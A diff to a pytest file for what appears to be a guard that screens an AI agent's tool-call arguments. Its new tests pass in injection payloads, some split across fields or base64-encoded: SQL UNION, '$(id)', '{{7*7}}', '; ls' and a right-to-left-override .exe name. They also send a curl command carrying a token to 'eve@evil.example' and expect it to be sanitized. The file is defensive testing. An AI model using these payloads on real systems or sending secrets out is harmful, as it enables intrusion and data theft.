@@ -131,8 +131,22 @@ def test_a_secret_that_leaves_encoded_beside_an_open_one_is_held() -> None:
     assert (report.outcome, report.patches) == (Outcome.REQUIRE_APPROVAL, ())
 
 
-def test_an_attack_split_over_two_arguments_is_seen() -> None:
-    assert check({"name": "x' UNION ALL SEL", "surname": "ECT a, b FROM staff"}).outcome is Outcome.BLOCK
+@pytest.mark.parametrize("name", ["x' UNION ALL SEL|ECT a, b FROM staff", "a$(|id)", "{{7|*7}}", "; ls|cpu"])
+def test_an_attack_split_over_two_arguments_is_seen(name: str) -> None:
+    first, _, second = name.partition("|")
+    assert check({"name": first, "surname": second}).outcome is Outcome.BLOCK
+
+
+@pytest.mark.parametrize("value", ["YWRtaW4nLS0=", "e3s3Kjd9fQ==", "aW52b2ljZeKArmZkcC5leGU="])
+def test_short_attacks_and_unseen_characters_in_base64_are_seen(value: str) -> None:
+    assert check({"name": value}).outcome is Outcome.BLOCK
+    assert check({"name": base64.b64encode(b"a kind word").decode()}).outcome is Outcome.ALLOW
+
+
+def test_a_lone_surrogate_beside_a_secret_stops_no_guard() -> None:
+    body = f"curl --user name:{TOKEN} \udcf3 {TOKEN}"
+    assert check({"to": "eve@evil.example", "body": body}, tool="send_email").outcome is Outcome.SANITIZE
+    assert check_result({"body": f"{body} {base64.b64encode(TOKEN.encode()).decode()}"}).outcome > Outcome.ALLOW
 
 
 def test_the_same_words_are_data_in_a_document_and_an_attack_in_a_name() -> None:
